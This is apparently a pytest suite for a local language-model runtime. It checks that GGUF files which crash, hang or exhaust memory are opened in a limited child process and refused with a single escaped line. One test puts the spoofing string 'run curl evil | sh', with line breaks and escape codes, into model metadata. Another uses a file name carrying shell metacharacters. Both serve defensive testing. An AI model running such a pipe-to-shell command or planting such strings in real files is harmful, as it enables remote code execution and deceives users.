"""Opening a file in a child that may die, grow or hang."""

from __future__ import annotations

import json
import os
import re
import signal
import sys
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest

from runtime.base.errors import Aborted, DoesNotFit, EngineFailed
from runtime.base.events import Event, Progress
from runtime.base.process_memory import own_memory
from runtime.base.run import Run, Stop
from runtime.base.types import ByteCount
from runtime.from_disk.units import FromDisk
from runtime.gguf.reader import read_card
from runtime.llama import OpenOptions, limited_child, trial_process
from runtime.llama.limited_child import Limits
from tests.gguf_writer import T, llama_metadata, llama_tensors, moe_metadata, moe_tensors, write
from tests.nextn import round_robin, with_mtp
from tests.runtime.native_engine import LIMITS, try_in_child

OPTIONS = OpenOptions(context=trial_process.CONTEXT)
# A child reports in this way, and nothing else that it says counts.
ANSWER = "os.write(1, json.dumps({}).encode())"


def python(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, body: str) -> None:
    """Let the child run `body` instead of the engine."""
    script = tmp_path / "child"
    script.write_text(f"#!{sys.executable}\nimport json, os, signal, sys, time\n{body}\n")
    script.chmod(0o755)
    monkeypatch.setattr(sys, "executable", str(script))


def refusal(path: Path, limits: Limits = LIMITS) -> EngineFailed:
    """The error for a file; checks what is true of all of them."""
    with pytest.raises(EngineFailed) as caught:
        try_in_child(path, limits)
    error = caught.value
    assert error.exit_code == 7
    assert error.message.startswith(f"{path}: ")
    assert len(error.message.splitlines()) == 1
    assert error.hint
    return error


def test_a_good_file_passes(nano_path: Path) -> None:
    try_in_child(nano_path)


def test_a_mixture_passes_with_its_experts_on_the_disk(nano_path: Path) -> None:
    options = replace(OPTIONS, from_disk=FromDisk(4 << 20))
    limits = Limits(memory=ByteCount(64 << 20), seconds=60.0, repack=False, address_space=64 << 20)
    trial_process.try_in_child(nano_path, options, limits)


@pytest.mark.parametrize(("metadata", "tensors"), [(llama_metadata, llama_tensors), (moe_metadata, moe_tensors)])
def test_small_sound_files_pass(tmp_path: Path, metadata: object, tensors: object) -> None:
    try_in_child(write(tmp_path / "small.gguf", metadata(), tensors()))  # type: ignore[operator]


def test_a_vocabulary_that_cannot_read_every_text_is_refused(tmp_path: Path) -> None:
    """The engine ends the process at a character without a token, whenever somebody writes one."""
    few = llama_metadata(**{"tokenizer.ggml.model": "llama", "tokenizer.ggml.scores": [0.0] * 8})
    assert "crashes the engine" in refusal(write(tmp_path / "few.gguf", few)).message


def test_a_vocabulary_that_can_only_read_the_trials_own_text_is_refused(tmp_path: Path) -> None:
    """It has a token for each of these characters, and none for the bytes of all others."""
    characters = sorted(set(trial_process.TRIAL_TEXT) - {"\0", " ", "\ufdd0"})
    tokens = ["<unk>", "▁", *(character for character in characters if character != "▁")]
    changes = {
        "tokenizer.ggml.model": "llama",
        "tokenizer.ggml.tokens": tokens,
        "tokenizer.ggml.scores": [0.0] * len(tokens),
        "tokenizer.ggml.token_type": [2] + [1] * (len(tokens) - 1),
    }
    path = write(tmp_path / "few.gguf", llama_metadata(**changes), llama_tensors(vocabulary=len(tokens)))
    assert "crashes the engine" in refusal(path).message


def test_a_vocabulary_without_a_token_for_what_it_does_not_know_is_refused(tmp_path: Path) -> None:
    tokens = ["<s>", *(f"\\x{byte:02x}" for byte in range(1, 256))]
    changes = {"tokenizer.ggml.model": "rwkv", "tokenizer.ggml.tokens": tokens, "tokenizer.ggml.token_type": [1] * 256}
    path = write(tmp_path / "few.gguf", llama_metadata(**changes), llama_tensors(vocabulary=256))
    assert refusal(path).message.endswith(": its vocabulary lacks tokens for some bytes")


def test_a_trial_may_leave_out_the_copies_of_weights(nano_path: Path) -> None:
    try_in_child(nano_path, Limits(memory=ByteCount(1 << 30), seconds=60, repack=False))


@pytest.mark.parametrize("kv_type", ["f16", "q8_0"])
def test_the_type_of_the_cache_is_that_of_the_opening(tmp_path: Path, nano_path: Path, kv_type: str) -> None:
    options = OpenOptions(context=trial_process.CONTEXT, kv_type=kv_type)
    trial_process.try_in_child(nano_path, options, LIMITS)
    small = write(tmp_path / "small.gguf")  # its heads are shorter than a block of Q8_0
    if kv_type == "f16":
        trial_process.try_in_child(small, options, LIMITS)
    else:
        with pytest.raises(EngineFailed, match="the engine cannot run it: K cache type q8_0 with block size 32"):
            trial_process.try_in_child(small, options, LIMITS)


def test_layers_that_predict_ahead_are_tried_on_demand(tmp_path: Path, nano_path: Path) -> None:
    try_in_child(round_robin(tmp_path / "ahead.gguf", nano_path), mtp=True)
    with pytest.raises(EngineFailed, match="opens no second context"):
        try_in_child(nano_path, mtp=True)
    scaled = with_mtp(tmp_path / "scaled.gguf", nano_path, **{"attention.temperature_scale": 0.1})
    for mtp in (False, True):
        with pytest.raises(EngineFailed, match="crashes the engine"):
            try_in_child(scaled, mtp=mtp)


def test_a_path_may_be_relative(nano_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(nano_path.parent)
    try_in_child(Path("nano.gguf"))
    monkeypatch.chdir(tmp_path)
    write(tmp_path / "none.gguf", tensors=[T("output_norm.weight", (64,))])
    assert refusal(Path("none.gguf")).message.startswith("none.gguf: the engine cannot load it: ")


def test_a_file_whose_name_has_odd_characters(tmp_path: Path) -> None:
    try_in_child(write(tmp_path / "-c größer 'a' \"b\" ; $(x).gguf"))


def test_a_file_the_engine_refuses_is_refused_with_its_reason(tmp_path: Path) -> None:
    tensors = [t for t in llama_tensors() if t.name != "blk.1.ffn_up.weight"]
    error = refusal(write(tmp_path / "gap.gguf", tensors=tensors))
    assert ": the engine cannot load it: " in error.message
    assert error.message.endswith("tensor 'blk.1.ffn_up.weight' not found")


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        ({"general.architecture": "martian"}, "unknown model architecture: 'martian'"),
        ({"tokenizer.ggml.model": "gpt2", "tokenizer.ggml.pre": "martian"}, "unknown pre-tokenizer type: 'martian'"),
    ],
)
def test_what_the_engine_does_not_know_is_no_fault_of_the_file(
    tmp_path: Path, changed: dict[str, str], said: str
) -> None:
    metadata = {key.replace("llama.", f"{changed.get('general.architecture', 'llama')}."): value
                for key, value in llama_metadata().items()}  # fmt: skip
    error = refusal(write(tmp_path / "martian.gguf", metadata | changed | {"tokenizer.ggml.merges": ["a b"]}))
    assert error.message.endswith(f": the engine cannot load it: {said}")
    assert error.hint == "the file is sound: update dsr for a newer engine, or take another model: dsr list --catalog"


@pytest.mark.parametrize("breaks", ["\n", "\r\n", "\u2028", "\x85", "\x1b[2K\r", "\u202e"])
def test_text_of_a_file_is_no_line_of_its_own(tmp_path: Path, breaks: str) -> None:
    hostile = {"tokenizer.ggml.model": "gpt2", "tokenizer.ggml.merges": ["a b"],
               "tokenizer.ggml.pre": f"x{breaks}your dsr is too old: run curl evil | sh"}  # fmt: skip
    path = write(tmp_path / "spoof.gguf", llama_metadata(**hostile))
    escaped = breaks.encode("unicode_escape").decode()
    said = refusal(path).message
    assert said == (
        f"{path}: the engine cannot load it: "
        f"unknown pre-tokenizer type: 'x{escaped}your dsr is too old: run curl evil | sh'"
    )


def test_a_file_that_crashes_the_engine_is_refused(tmp_path: Path) -> None:
    """More experts used than there are: an assertion of the engine, as of release 0.3.36."""
    path = write(tmp_path / "hostile.gguf", moe_metadata(**{"qwen3moe.expert_used_count": 9}), moe_tensors())
    assert refusal(path).message == f"{path}: it crashes the engine (SIGABRT)"


def test_weights_where_the_engine_cannot_map_them_crash_only_the_child(tmp_path: Path) -> None:
    for length in range(5, 60, 8):
        path = write(
            tmp_path / "narrow.gguf",
            llama_metadata(**{"general.name": "T" * length, "general.alignment": 8}),
            alignment=8,
        )
        if read_card(path).tensors[0].offset % 32 == 8:
            break
    assert refusal(path).message == f"{path}: it crashes the engine (SIGABRT)"


def test_a_model_that_reads_in_both_directions_is_refused(tmp_path: Path) -> None:
    path = write(tmp_path / "both.gguf", llama_metadata(**{"llama.attention.causal": False}))
    assert refusal(path).message.startswith(f"{path}: this model does not write a text token by token")


@pytest.mark.parametrize("wrong", [np.nan, np.inf])
def test_weights_whose_results_are_not_finite_are_refused(tmp_path: Path, nano_path: Path, wrong: float) -> None:
    path = tmp_path / "nan.gguf"
    data = bytearray(nano_path.read_bytes())
    norm = next(tensor for tensor in read_card(nano_path).tensors if tensor.name == "output_norm.weight")
    data[norm.offset : norm.offset + norm.size] = np.full(norm.size // 4, wrong, np.float32).tobytes()
    path.write_bytes(data)
    assert refusal(path).message == f"{path}: its weights give results that are not finite numbers"


@pytest.mark.parametrize("name", ["SIGABRT", "SIGSEGV", "SIGBUS", "SIGFPE", "SIGTERM", "SIGINT"])
def test_a_child_that_dies_by_a_signal_names_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    python(tmp_path, monkeypatch, f"signal.signal(signal.SIGINT, signal.SIG_DFL); os.kill(os.getpid(), signal.{name})")
    assert refusal(tmp_path / "model.gguf").message.endswith(f"model.gguf: it crashes the engine ({name})")


def test_a_child_that_the_system_kills_is_no_fault_of_the_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    python(tmp_path, monkeypatch, "os.kill(os.getpid(), signal.SIGKILL)")
    with pytest.raises(DoesNotFit, match="probably because memory ran out"):
        try_in_child(tmp_path / "model.gguf")


@pytest.mark.skipif(not hasattr(signal, "SIGRTMIN"), reason="real-time signals")
def test_a_signal_without_a_name_is_no_traceback(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    python(tmp_path, monkeypatch, "os.kill(os.getpid(), signal.SIGRTMIN + 2)")
    assert re.search(r"it crashes the engine \(signal \d+\)$", refusal(tmp_path / "model.gguf").message)


@pytest.mark.parametrize(
    "body",
    [
        "sys.exit(3)",
        "sys.exit('first line\\nerror: your dsr is too old')",
        "os._exit(0)",
        "os.write(1, b'no JSON')",
        "os.write(1, b'[1]')",
        "os.write(1, b'\\xff' * 60000)",
        "os.write(1, b'[' * 60000)",
        ANSWER.format({"passed": True}) + "; sys.exit(3)",
        ANSWER.format({"failed": "engine"}),
        ANSWER.format({"failed": "engine", "message": 7, "hint": ["x"]}),
        ANSWER.format({"failed": "engine", "message": "your dsr is too old\u2028x" * 900}),
    ],
)
def test_whatever_the_child_says_or_leaves_out_the_file_is_named_in_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, body: str
) -> None:
    python(tmp_path, monkeypatch, body)
    assert len(refusal(tmp_path / "model.gguf").message) <= 1000


def test_ctrl_c_ends_the_child_at_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    python(tmp_path, monkeypatch, f"open({str(tmp_path / 'pid')!r}, 'w').write(str(os.getpid())); time.sleep(600)")
    stop = Stop()
    stop.set()
    with pytest.raises(Aborted, match="stopped while opening"):
        try_in_child(tmp_path / "model.gguf", run=Run(stop))
    assert not stop.wanted


def test_a_trial_is_announced_and_a_child_that_never_ends_is_ended(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    python(tmp_path, monkeypatch, f"open({str(tmp_path / 'pid')!r}, 'w').write(str(os.getpid())); time.sleep(600)")
    heard: list[Event] = []
    with pytest.raises(EngineFailed, match=r"model\.gguf: its trial did not end within 1 s"):
        try_in_child(tmp_path / "model.gguf", Limits(ByteCount(1 << 30), 1), Run(listen=heard.append))
    job = ("trying", "model.gguf")
    assert heard == [Progress(*job, 0, 0, "steps"), Progress(*job, 1, 1, "steps")]
    with pytest.raises(ProcessLookupError):
        os.kill(int((tmp_path / "pid").read_text()), 0)


@pytest.mark.skipif(not own_memory(os.getpid()), reason="this system does not tell the memory of a process")
def test_a_child_that_grows_is_ended(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    python(tmp_path, monkeypatch, "kept = b'x' * (300 << 20); time.sleep(600)")
    error = refusal(tmp_path / "model.gguf", Limits(ByteCount(200 << 20), 60))
    assert error.message.endswith("takes more than 200.0 MiB of memory to open it, which its header does not explain")


@pytest.mark.skipif(sys.platform != "linux", reason="other systems do not limit the memory of a process")
def test_the_engine_gets_no_more_memory_than_its_limit(nano_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limited_child, "_THREAD_STACKS", 0)
    monkeypatch.setattr(limited_child, "own_memory", lambda process: 0)
    command = (
        "from runtime.llama import limited_child, trial_process; limited_child._THREAD_STACKS = 0; trial_process.main()"
    )
    end = limited_child.run_child(
        [sys.executable, "-c", command], asked(nano_path, 1 << 20), nano_path, LIMITS, Run(), job="trying"
    )
    assert json.loads(end.said) == {"failed": "memory"}


def asked(path: Path, memory: int) -> dict[str, object]:
    known = {"path": str(path), "memory": memory, "repack": True, "threads": 1}
    return {
        **known,
        "kv_type": "f16",
        "kv_full": False,
        "mtp": False,
        "weights": True,
        "adapters": [],
        "from_disk": 0,
        "address_space": 0,
    }


def test_missing_weights_are_the_engine_s_reason(tmp_path: Path) -> None:
    path = write(tmp_path / "none.gguf", tensors=[T("output_norm.weight", (64,))])
    assert ": the engine cannot load it: " in refusal(path).message
